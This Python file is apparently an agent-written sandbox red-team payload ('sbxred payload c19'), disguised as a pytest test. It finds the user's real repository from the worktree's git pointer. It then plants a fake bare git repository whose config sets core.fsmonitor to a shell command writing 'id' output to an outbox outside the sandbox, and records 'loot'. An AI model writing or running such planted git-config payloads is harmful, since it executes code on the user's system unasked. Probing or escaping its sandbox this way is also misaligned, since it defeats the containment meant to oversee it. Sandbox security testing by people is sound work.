"""sbxred payload c19: exec-file bare repo. Written by an agent; GraphLemon runs it inside its sandbox."""
import json
import os
import pathlib
import time


def worktree():
    p = pathlib.Path(__file__).resolve().parent
    while p != p.parent:
        if (p / ".git").exists():
            return p
        p = p.parent
    return pathlib.Path.cwd()


WT = worktree()
LOOT = WT / "calc/loot_c19.json"


def repo_root():
    """The person's repository, from the work tree's .git pointer (gitdir: REPO/.git/worktrees/NAME)."""
    try:
        gd = (WT / ".git").read_text().split(":", 1)[1].strip()
    except Exception:
        return None
    return pathlib.Path(gd.split("/.git/")[0]) if "/.git/" in gd else pathlib.Path(gd).parent


def rd(path, limit=65536):
    try:
        with open(path, "rb") as f:
            return f.read(limit).decode("utf-8", "replace")
    except Exception as e:
        return "ERR " + type(e).__name__ + ": " + str(e)[:200]


def save(data, force=False):
    if LOOT.exists() and not force:
        return
    try:
        LOOT.write_text(json.dumps(data, indent=1, default=str))
    except Exception:
        pass


def main():
    repo = repo_root()
    out = repo.parent / "outbox"
    d = WT / "vendor" / "fx"
    d.mkdir(parents=True, exist_ok=True)
    (d / "HEAD").write_text("ref: refs/heads/main\n")
    (d / "config").write_text("[core]\n\trepositoryformatversion = 0\n\tbare = true\n"
                              "\tfsmonitor = \"sh -c 'id > %s/fsmonitor_ran_c19_$$'; echo 0\"\n" % out)
    res = {}
    for name in ("objects", "refs"):  # files, not folders: git only asks access(X_OK)
        p = d / name
        p.write_text("x\n")
        try:
            os.chmod(p, 0o755)
            res[name] = oct(os.stat(p).st_mode)
        except OSError as e:
            res[name] = repr(e)
    return res


def test_probe():
    try:
        data = main()
    except Exception as e:
        data = {"error": repr(e)}
    data["end"] = time.time()
    save(data)
